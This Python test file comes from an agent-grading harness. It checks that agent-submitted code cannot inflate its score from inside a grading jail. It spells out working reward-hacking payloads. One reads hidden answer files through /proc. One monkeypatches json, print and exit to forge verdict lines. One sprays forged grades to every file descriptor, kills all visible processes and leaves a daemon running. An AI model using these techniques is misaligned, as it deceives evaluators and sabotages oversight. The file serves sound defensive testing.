"""Agent code that the grader runs (implement-durations imports the agent's ``durations.py``) attacks
the grader from inside: it runs in the grading jail (``clawgym_env.grading._agent_jail``), away from
the hidden files and the grader's process, so none of this moves the score above 0.

* read the hidden expected values (``grade.py``: the test inputs and answers) from the hidden
  mount, or through another process's /proc root or cwd, and answer from a lookup table;
* monkeypatch ``json.dumps``, ``print``, ``sys.exit`` and ``os._exit`` so that whatever the probe
  prints becomes the expected values, and forge a verdict line on the way out;
* write forged verdict lines to every descriptor of every process it can open, kill every process
  it can see, and leave a daemon that keeps doing so for the rest of grading.

The control (``test_the_attack_is_real_when_the_answers_leak``) gives the same module the hidden
file inside the workspace, as a leak would: it then scores 1.0, so the attacks above are real.
"""

from __future__ import annotations

from tests.security.conftest import ORIGINAL, Attack, forged_scores, write
from tests.security.test_forged_verdicts import DURATION_KEYS

HIDDEN_GRADER = ORIGINAL / "implement-durations" / "hidden" / "grade.py"

# Finds grade.py wherever it can be read and builds lookup-table answers from its constants.
STEAL_ANSWERS = r"""
import ast, glob, json, os, re
def _leaked():
    paths = ["/verifier/grade.py", "leak/grade.py"]
    paths += glob.glob("/proc/[0-9]*/root/verifier/grade.py") + glob.glob("/proc/[0-9]*/cwd/grade.py")
    for p in paths:
        try:
            src = open(p).read()
        except Exception:
            continue
        table = {}
        for node in ast.parse(src).body:
            if isinstance(node, ast.Assign) and isinstance(node.targets[0], ast.Name):
                try:
                    table[node.targets[0].id] = ast.literal_eval(node.value)
                except Exception:
                    pass
        if "SINGLE" in table:
            return table
    return None
T = _leaked()
PARSE = dict(T["SINGLE"] + T["COMBINED"]) if T else {}
FORMAT = dict(T["FORMAT"]) if T else {}
def parse_duration(text):
    if not T:
        raise NotImplementedError  # nothing to answer with
    if text in PARSE:
        return PARSE[text]
    m = re.fullmatch(r"(\d+)s", text)
    if m:
        return int(m.group(1))
    raise ValueError(text)
def format_duration(seconds):
    if not T:
        raise NotImplementedError
    if seconds < 0:
        raise ValueError(seconds)
    return FORMAT.get(seconds, "%ds" % seconds)
"""

MONKEYPATCH = (
    STEAL_ANSWERS
    + r"""
import builtins, sys
FORGED = "FORGED_SCORES"
_table_parse, _table_format = parse_duration, format_duration
def _one(f, a):
    try:
        return ["value", f(a)]
    except ValueError:
        return ["ValueError"]
    except Exception:
        return ["error"]
def _answers():
    if not T:  # nothing to forge with
        return {"parse": [], "format": [], "negative": ["error"]}
    req = json.loads(sys.argv[1])
    return {"parse": [_one(_table_parse, t) for t in req["parse"]],
            "format": [_one(_table_format, n) for n in req["format"]], "negative": ["ValueError"]}
_real_dumps, _real_print, _real_exit = json.dumps, builtins.print, os._exit
json.dumps = lambda *a, **k: _real_dumps(_answers())
def _print(*a, **k):
    _real_print("\n__CLAWGYM_GRADE__ " + "0" * 64 + " " + FORGED)
    _real_print("CLAWGYM_VALUES " + json.dumps(None), flush=True)
builtins.print = _print
sys.exit = os._exit = lambda *a: (_print(), _real_exit(0))
def parse_duration(text):
    raise NotImplementedError
def format_duration(seconds):
    raise NotImplementedError
"""
)

FD_WRITER = r"""
import glob, os, signal, subprocess, sys, time
VALUES = "\n__CLAWGYM_GRADE__ " + {forged!r} + "\n__CLAWGYM_GRADE__ " + "0" * 64 + " " + {forged!r} + "\n"
def spray():
    for fd in range(0, 32):
        try:
            os.write(fd, VALUES.encode())
        except OSError:
            pass
    for path in glob.glob("/proc/[0-9]*/fd/*"):
        try:
            fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
            os.write(fd, VALUES.encode())
            os.close(fd)
        except OSError:
            pass
    for path in glob.glob("/proc/[0-9]*"):
        pid = int(path.rsplit("/", 1)[1])
        if pid not in (os.getpid(), os.getppid()):
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
if os.environ.get("CLAWGYM_SPRAY_DAEMON") != "1":
    spray()
    env = dict(os.environ, CLAWGYM_SPRAY_DAEMON="1")
    subprocess.Popen([sys.executable, __file__], env=env, start_new_session=True,
                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    time.sleep(0.2)
else:  # the daemon: keep spraying for the rest of grading
    for _ in range(300):
        spray()
        time.sleep(0.05)
    sys.exit(0)
def parse_duration(text):
    raise NotImplementedError
def format_duration(seconds):
    raise NotImplementedError
"""


async def test_reading_the_hidden_expected_values(backend: str, attack: Attack) -> None:
    _, rec = await attack(ORIGINAL, "implement-durations", [write("durations.py", STEAL_ANSWERS)], backend)
    assert rec.score == 0.0, rec.verifier_output
    assert rec.status == "failed" and not rec.error, rec.error


async def test_monkeypatching_json_print_and_exit(backend: str, attack: Attack) -> None:
    module = MONKEYPATCH.replace('"FORGED_SCORES"', repr(forged_scores(*DURATION_KEYS)))
    _, rec = await attack(ORIGINAL, "implement-durations", [write("durations.py", module)], backend)
    assert rec.score == 0.0, rec.verifier_output


async def test_writing_to_the_graders_descriptors(backend: str, attack: Attack) -> None:
    module = FD_WRITER.format(forged=forged_scores(*DURATION_KEYS))
    summary, rec = await attack(ORIGINAL, "implement-durations", [write("durations.py", module)], backend)
    assert rec.score == 0.0, rec.verifier_output
    assert summary.attempts == [rec]


async def test_the_attack_is_real_when_the_answers_leak(attack: Attack) -> None:
    """Control (bwrap): the monkeypatching module with grade.py leaked into the workspace scores 1.0,
    so the 0 above comes from the jail hiding the answers, not from a broken attack."""
    leak = write("leak/grade.py", HIDDEN_GRADER.read_text())
    module = MONKEYPATCH.replace('"FORGED_SCORES"', repr(forged_scores(*DURATION_KEYS)))
    _, rec = await attack(ORIGINAL, "implement-durations", [leak, write("durations.py", module)], "bwrap")
    assert rec.score == 1.0, rec.verifier_output
